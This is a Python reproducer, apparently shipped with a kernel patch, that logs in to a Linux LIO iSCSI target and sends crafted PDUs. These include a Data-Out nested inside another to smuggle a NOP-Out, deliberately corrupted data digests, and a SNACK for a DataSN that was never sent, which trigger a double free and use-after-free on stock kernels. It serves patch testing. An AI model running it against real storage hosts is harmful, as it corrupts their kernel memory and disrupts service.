#!/usr/bin/env python3
"""Make LIO reject a PDU of a task that its target core already holds.

Reproducer for upstream/0004-scsi-target-iscsi-fix-double-free-of-task-whose-pdu-is-rejected.patch.
It logs in to TARGET at PORTAL with this project's PDU-level initiator
(initiator/iscsi_initiator), ImmediateData=No, InitialR2T=Yes, and sends
a PDU that a stock LIO refuses with iscsit_reject_cmd() on a task it has
already handed to its target core. That drops a reference of the task,
which the core's completion drops again. It prints every PDU the target
sends back:

  data-out-twice  ERL 0. A WRITE(10) of one block and its R2T, then a
                  Data-Out at offset 512 (past the transfer length) whose
                  data segment is a second such Data-Out, whose data
                  segment is a NOP-Out (ITT 0x5a5a5a5a): LIO over
                  iSCSI/TCP leaves a refused Data-Out's data unread and
                  reads it as the next PDUs. Stock 6.1 and 6.12 reject
                  both with the WRITE's own command; the second Reject
                  drops its last reference, so the RX thread releases
                  the WRITE while it is still listed and queued (a WARN
                  in iscsit_release_cmd), and the NOP-Out's command may
                  get its tag. Patched: two Rejects (reason 0x09), a
                  NOP-In, and the WRITE, whose R2T the reproducer then
                  answers, ends GOOD.
  digest-erl0     ERL 0, DataDigest=CRC32C. --writes WRITEs (4) that each
                  hold an R2T, then the second one's Data-Out with a bad
                  data digest: LIO rejects it and drops the connection,
                  completing the WRITEs as it closes. Stock frees the
                  rejected WRITE twice when its completion runs before
                  the close gets to it, which the WRITE ahead of it makes
                  likely: the WARN in iscsit_release_cmd from
                  target_complete_ok_work, then "refcount_t: underflow;
                  use-after-free". Patched: a Reject (0x02) and the
                  connection dropped, the kernel log clean of both.
  digest-erl1     ERL 1, DataDigest=CRC32C. One WRITE, its Data-Out with a
                  bad data digest; the reproducer answers the recovery
                  R2T, then acknowledges the status with a NOP-Out. Stock
                  releases the WRITE as it completes (the WARN), with its
                  SCSI Response still queued, and the acknowledgement
                  puts it again (the underflow). Patched: a Reject
                  (0x02), the recovery R2T and GOOD.
  data-snack      ERL 1. A READ(10) of one block, then a Data SNACK for
                  its DataSN 1, which was never sent. Stock's Reject drops
                  the READ's last reference at once (the WARN) and the
                  connection that LIO then drops puts it again (the
                  underflow). Patched: the same PDUs, a Reject (0x09) if
                  it gets out before the connection goes.

The ERL 1 cases need a target that offers ErrorRecoveryLevel=1. LIO takes
it from the ACL's default_erl attribute (a dynamic ACL copies the TPG's
when it is made): for example targetcli /iscsi/IQN/tpg1 set attribute
default_erl=1 and set parameter ErrorRecoveryLevel=1.

The WRITEs carry the block at --lba that the reproducer reads first. What
the target's kernel did is in its log (dmesg): the reproducer sees only
the PDUs. cxgbit-ext's offloaded path refuses the Data-Outs of the first
three cases itself (a Reject, and at ERL 0 the connection dropped) but
hands SNACKs to LIO. Run it only against a test target: on a stock
kernel it corrupts the target host's kernel memory. Example:

  upstream/reproducers/rejected_task_pdu.py 198.18.1.1 iqn.2026-11.org.cxgbit-ext:pdu --case data-out-twice
"""

from __future__ import annotations

import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import common

from iscsi_initiator.pdu import RSVD_TAG, Op, Pdu, data_out, nop_out, scsi_command, snack_request
from iscsi_initiator.session import Connection, ConnectionClosed, Params, ScsiError

BLOCK = 512
SMUGGLED_ITT = 0x5A5A5A5A
# the ErrorRecoveryLevel and DataDigest each case needs
CASES = {
    "data-out-twice": (0, "None"),
    "digest-erl0": (0, "CRC32C"),
    "digest-erl1": (1, "CRC32C"),
    "data-snack": (1, "None"),
}


def cdb10(opcode: int, lba: int) -> bytes:
    """READ(10) or WRITE(10) of one block."""
    return struct.pack(">BBIBHB", opcode, 0, lba, 0, 1, 0)


def smuggled(rsp: Pdu) -> str | None:
    if rsp.opcode == Op.NOOP_IN and rsp.itt == SMUGGLED_ITT:
        return "the NOP-Out in the data segment answered (the target read the data as a PDU)"
    return None


def watch(c: Connection, seconds: float, until: Op | None = None, itt: int = RSVD_TAG) -> Pdu | None:
    """common.watch, returning the PDU watched for; raises ConnectionClosed
    when the target drops the connection."""
    w = common.watch(c, seconds, smuggled, until, itt)
    if w.closed:
        raise ConnectionClosed("the target dropped the connection")
    return w.match


def read_block(c: Connection, lba: int) -> bytes:
    """The block at ``lba``, retrying a UNIT ATTENTION or two."""
    for attempt in range(3):
        try:
            return c.scsi_read(lba, 1)
        except ScsiError:
            if attempt == 2:
                raise
    raise AssertionError("unreachable")


def start_write(c: Connection, lba: int, wait: float) -> Pdu:
    """Send a WRITE(10) of one block; returns its R2T."""
    itt = c.next_itt()
    print(f"sending WRITE(10), ITT 0x{itt:08x}, LBA {lba}, Expected Data Transfer Length {BLOCK}")
    c.send(scsi_command(cdb10(0x2A, lba), itt=itt, cmdsn=c.cmdsn, expstatsn=c.expstatsn, write_len=BLOCK))
    c.cmdsn += 1
    r2t = watch(c, wait, Op.R2T, itt)
    if r2t is None:
        raise ConnectionClosed(f"no R2T for ITT 0x{itt:08x}")
    return r2t


def answer(c: Connection, r2t: Pdu, block: bytes, bad_digest: bool = False) -> None:
    """Send the block an R2T asks for, with a wrong data digest if ``bad_digest``."""
    p = data_out(itt=r2t.itt, ttt=r2t.ttt, expstatsn=c.expstatsn, datasn=0, offset=r2t.buffer_offset,
                 data=block[: r2t.desired_length], final=True)  # fmt: skip
    wire = bytearray(p.encode(c.params.hdigest, c.params.ddigest))
    if bad_digest:
        wire[-1] ^= 0x01
    print(f"sending the Data-Out for ITT 0x{r2t.itt:08x}" + (" with a bad data digest" if bad_digest else ""))
    c.send_raw(bytes(wire))


def acknowledge(c: Connection, wait: float) -> None:
    """A NOP-Out whose ExpStatSN acknowledges every status so far."""
    itt = c.next_itt()
    print(f"sending a NOP-Out, ITT 0x{itt:08x}, ExpStatSN {c.expstatsn} (acknowledges every status so far)")
    c.send(nop_out(itt=itt, cmdsn=c.cmdsn, expstatsn=c.expstatsn))
    watch(c, wait, Op.NOOP_IN, itt)


def data_out_twice(c: Connection, lba: int, wait: float) -> None:
    block = read_block(c, lba)
    r2t = start_write(c, lba, wait)
    ping = nop_out(itt=SMUGGLED_ITT, cmdsn=c.cmdsn, expstatsn=c.expstatsn)
    second = data_out(itt=r2t.itt, ttt=r2t.ttt, expstatsn=c.expstatsn, datasn=0, offset=BLOCK,
                      data=ping.encode(), final=True)  # fmt: skip
    first = data_out(itt=r2t.itt, ttt=r2t.ttt, expstatsn=c.expstatsn, datasn=0, offset=BLOCK,
                     data=second.encode(), final=True)  # fmt: skip
    print(f"sending a Data-Out at offset {BLOCK}, {len(first.data)} bytes: a Data-Out at offset {BLOCK} "
          f"({len(second.data)} bytes: a NOP-Out, ITT 0x{SMUGGLED_ITT:08x})")  # fmt: skip
    c.send(first)
    watch(c, wait, Op.NOOP_IN, SMUGGLED_ITT)
    answer(c, r2t, block)
    watch(c, wait, Op.SCSI_RSP, r2t.itt)
    acknowledge(c, wait)


def digest_erl0(c: Connection, lba: int, wait: float, writes: int) -> None:
    block = read_block(c, lba)
    r2ts = [start_write(c, lba, wait) for _ in range(writes)]
    answer(c, r2ts[min(1, writes - 1)], block, bad_digest=True)
    watch(c, wait)


def digest_erl1(c: Connection, lba: int, wait: float) -> None:
    block = read_block(c, lba)
    r2t = start_write(c, lba, wait)
    answer(c, r2t, block, bad_digest=True)
    recovery = watch(c, wait, Op.R2T, r2t.itt)
    if recovery is None:
        print("no recovery R2T: nothing more sent")
        return
    answer(c, recovery, block)
    watch(c, wait, Op.SCSI_RSP, r2t.itt)
    acknowledge(c, wait)


def data_snack(c: Connection, lba: int, wait: float) -> None:
    itt = c.next_itt()
    print(f"sending READ(10), ITT 0x{itt:08x}, LBA {lba}, Expected Data Transfer Length {BLOCK}")
    c.send(scsi_command(cdb10(0x28, lba), itt=itt, cmdsn=c.cmdsn, expstatsn=c.expstatsn, read_len=BLOCK))
    c.cmdsn += 1
    status = watch(c, wait, Op.SCSI_RSP, itt)
    if status is None:
        print("no status for the READ: nothing more sent")
        return
    # a Data/R2T SNACK for DataSN 1; its ExpStatSN leaves the READ's status unacknowledged
    snack = snack_request(kind=0, itt=itt, expstatsn=status.statsn, begrun=1, runlength=1)
    print(f"sending a Data SNACK for ITT 0x{itt:08x}, BegRun 1, RunLength 1 (the READ had DataSN 0 only)")
    c.send(snack)
    watch(c, wait)


def main(argv: list[str] | None = None) -> int:
    ap = common.parser(__doc__)
    ap.add_argument("--case", choices=list(CASES), default="data-out-twice")
    ap.add_argument("--lba", type=int, default=0, help="the block the WRITEs write back and the READ reads")
    ap.add_argument("--writes", type=int, default=4, help="WRITEs holding an R2T in digest-erl0")
    ap.add_argument("--wait", type=float, default=5, help="seconds to wait for each answer")
    args = ap.parse_args(argv)

    host, port = args.portal
    erl, ddigest = CASES[args.case]
    c = Connection(host, port)
    c.login(args.initiator, args.target, Params(immediate_data=False, initial_r2t=True, erl=erl, data_digest=ddigest))
    got_erl = int(c.target_keys.get("ErrorRecoveryLevel", "0"))
    if got_erl != erl or c.params.data_digest != ddigest:
        print(f"negotiated ErrorRecoveryLevel={got_erl}, DataDigest={c.params.data_digest}; "
              f"--case {args.case} needs {erl} and {ddigest}: nothing sent")  # fmt: skip
        c.close()
        return 2
    try:
        if args.case == "data-out-twice":
            data_out_twice(c, args.lba, args.wait)
        elif args.case == "digest-erl0":
            digest_erl0(c, args.lba, args.wait, max(1, args.writes))
        elif args.case == "digest-erl1":
            digest_erl1(c, args.lba, args.wait)
        else:
            data_snack(c, args.lba, args.wait)
    except ConnectionClosed as e:
        print(f"  stopped: {e}")
        return 0
    c.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
